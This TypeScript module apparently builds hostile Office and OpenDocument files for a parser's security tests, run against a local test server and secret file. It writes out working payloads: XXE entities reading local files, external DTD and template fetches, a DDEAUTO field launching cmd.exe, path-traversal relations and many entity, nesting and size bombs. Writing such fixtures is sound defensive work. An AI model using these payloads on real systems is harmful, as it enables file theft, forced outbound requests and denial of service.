import { zip } from '../file/zips.ts';
import { entry, rawZip } from './archives.ts';
import type { Hostile, Target } from './model.ts';

const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const types = Buffer.from(
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);
const relation = (type: string, target: string, more = '') =>
  `<Relationship Id="r${type}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/>`;
const relations = (...inner: string[]) =>
  Buffer.from(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner.join('')}</Relationships>`,
  );

/** The least that Word opens, with this body, and parts beside it. */
export function docx(body: string, parts: Record<string, Buffer> = {}, prolog = ''): Promise<Buffer> {
  return zip({
    '[Content_Types].xml': types,
    '_rels/.rels': relations(relation('officeDocument', 'word/document.xml')),
    'word/document.xml': Buffer.from(
      `<?xml version="1.0"?>${prolog}<w:document ${word}><w:body>${body}</w:body></w:document>`,
    ),
    ...parts,
  });
}
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const cell = (text: string) => `<w:tc>${paragraph(text)}</w:tc>`;

/** The least that LibreOffice opens; what a file is stands in its first entry, unpacked. */
function odt(body: string, prolog = ''): Buffer {
  const office =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"';
  const mime = Buffer.from('application/vnd.oasis.opendocument.text');
  const content = `<?xml version="1.0"?>${prolog}<office:document-content ${office}><office:body><office:text>${body}</office:text></office:body></office:document-content>`;
  return rawZip([
    { ...entry('mimetype', mime), packed: mime, method: 0 },
    entry('content.xml', Buffer.from(content)),
    entry(
      'META-INF/manifest.xml',
      Buffer.from('<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'),
    ),
  ]);
}

const laughs = () => {
  const levels = Array.from({ length: 12 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`);
  return `<!DOCTYPE x [<!ENTITY l0 "ha">${levels.join('')}]>`;
};

export async function office({ port, secret, folder }: Target): Promise<Hostile[]> {
  const entity = (kind: string) => `<!DOCTYPE x [<!ENTITY e ${kind}>]>`;
  const url = `http://127.0.0.1:${port}`;
  const rows = (count: number, row: string) => row.repeat(count);
  const million = 1_000_000;
  const hostile: [string, Promise<Buffer> | Buffer][] = [
    ['a .docx with an entity from the disk', docx(paragraph('&e;'), {}, entity(`SYSTEM "file://${secret}"`))],
    ['a .docx with an entity from a server', docx(paragraph('&e;'), {}, entity(`SYSTEM "${url}/x"`))],
    ['a .docx with a document type from a server', docx(paragraph('x'), {}, `<!DOCTYPE x SYSTEM "${url}/x.dtd">`)],
    ['a .docx with a parameter entity', docx(paragraph('x'), {}, `<!DOCTYPE x [<!ENTITY % p SYSTEM "${url}/x">%p;]>`)],
    ['a .docx of a billion laughs', docx(paragraph('&l12;'), {}, laughs())],
    [
      'a .docx with a template on a server',
      docx(paragraph('x'), {
        'word/_rels/document.xml.rels': relations(relation('settings', 'settings.xml')),
        'word/settings.xml': Buffer.from(`<w:settings ${word}/>`),
        'word/_rels/settings.xml.rels': relations(
          relation('attachedTemplate', `${url}/t.dotm`, 'TargetMode="External"'),
        ),
      }),
    ],
    [
      'a .docx with a picture, an object and a frame on a server',
      docx(paragraph('x'), {
        'word/_rels/document.xml.rels': relations(
          relation('image', `${url}/a.png`, 'TargetMode="External"'),
          relation('oleObject', `mhtml:${url}/a!x`, 'TargetMode="External"'),
          relation('frame', `\\\\127.0.0.1@${port}\\x`, 'TargetMode="External"'),
        ),
      }),
    ],
    [
      'a .docx with DDE and fields that fetch',
      docx(
        [
          'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
          `INCLUDEPICTURE "${url}/p" \\d`,
          `INCLUDETEXT "${secret}"`,
        ]
          .map(
            (instruction) => `<w:p><w:fldSimple w:instr='${instruction}'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`,
          )
          .join(''),
      ),
    ],
    ['a .docx with macros', docx(paragraph('x'), { 'word/vbaProject.bin': Buffer.from('x') })],
    ['a .docx with an object inside', docx(paragraph('x'), { 'word/embeddings/oleObject1.bin': Buffer.from('MZ') })],
    [
      'a .docx whose parts point out of it',
      docx(paragraph('x'), {
        'word/_rels/document.xml.rels': relations(
          relation('header', `../../../../..${folder}/secret`),
          relation('footer', `file://${secret}`),
        ),
      }),
    ],
    [
      'a .docx whose parts point to each other',
      docx(paragraph('x'), {
        'word/_rels/document.xml.rels': relations(relation('header', 'document.xml'), relation('footer', 'h.xml')),
        'word/_rels/h.xml.rels': relations(relation('header', 'document.xml')),
        'word/h.xml': Buffer.from(`<w:hdr ${word}/>`),
      }),
    ],
    ['a .docx of a million rows', docx(`<w:tbl>${rows(million, `<w:tr>${cell('x')}</w:tr>`)}</w:tbl>`)],
    ['a .docx of a row of a million cells', docx(`<w:tbl><w:tr>${rows(million, cell(''))}</w:tr></w:tbl>`)],
    ['a .docx of ten million empty paragraphs', docx(rows(10 * million, '<w:p/>'))],
    [
      'a .docx of tables in tables',
      docx(`${rows(5_000, '<w:tbl><w:tr><w:tc>')}${paragraph('x')}${rows(5_000, '</w:tc></w:tr></w:tbl>')}`),
    ],
    ['a .docx of elements in elements', docx(`${rows(100_000, '<w:sdt>')}${rows(100_000, '</w:sdt>')}`)],
    [
      'a .docx whose cell spans a billion columns',
      docx(
        `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>${paragraph('x')}</w:tc></w:tr></w:tbl>`,
      ),
    ],
    ['a .docx of one paragraph of 50 MB', docx(paragraph('x '.repeat(25_000_000)))],
    [
      'a .docx of a tag with a hundred thousand attributes',
      docx(`<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>`),
    ],
    ['a .docx of an attribute of 50 MB', docx(`<w:p w:x="${'x'.repeat(50_000_000)}"/>`)],
    [
      'a .docx of fields that never end',
      docx(`<w:p>${rows(200_000, '<w:r><w:fldChar w:fldCharType="begin"/></w:r>')}</w:p>`),
    ],
    ['a .docx without a body', docx('', { 'word/document.xml': Buffer.from('<x/>') })],
    [
      'a .docx in UTF-7',
      docx('', { 'word/document.xml': Buffer.from('<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-') }),
    ],
    ['a .docx that is not XML', docx('', { 'word/document.xml': Buffer.alloc(100_000, 0xff) })],
    [
      'a .docx with a part named like a property of all objects',
      docx(paragraph('x'), {
        'word/_rels/document.xml.rels': relations(relation('header', '__proto__'), relation('footer', 'constructor')),
        __proto__x: Buffer.from('x'),
      }),
    ],
    ['an .odt with an entity from the disk', odt('<text:p>&e;</text:p>', entity(`SYSTEM "file://${secret}"`))],
    ['an .odt of a billion laughs', odt('<text:p>&l12;</text:p>', laughs())],
    ['an .odt with a picture on a server', odt(`<text:p><draw:image xlink:href="${url}/a.png"/></text:p>`)],
    [
      'an .odt of a million rows',
      odt(`<table:table>${rows(million, '<table:table-row><table:table-cell/></table:table-row>')}</table:table>`),
    ],
    [
      'an .odt of a row that is repeated a billion times',
      odt(
        '<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell table:number-columns-repeated="999999999"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
      ),
    ],
    ['an .odt of a billion blanks', odt('<text:p>x<text:s text:c="999999999"/>y</text:p>')],
    [
      'an .odt of lists in lists',
      odt(`${rows(50_000, '<text:list><text:list-item>')}${rows(50_000, '</text:list-item></text:list>')}`),
    ],
    [
      'an .xlsx with macros and links',
      zip({
        '[Content_Types].xml': types,
        'xl/workbook.xml': Buffer.from('<x/>'),
        'xl/vbaProject.bin': Buffer.from('x'),
        'xl/externalLinks/externalLink1.xml': Buffer.from('x'),
      }),
    ],
  ];
  return Promise.all(hostile.map(async ([name, bytes]) => ({ name, bytes: await bytes })));
}
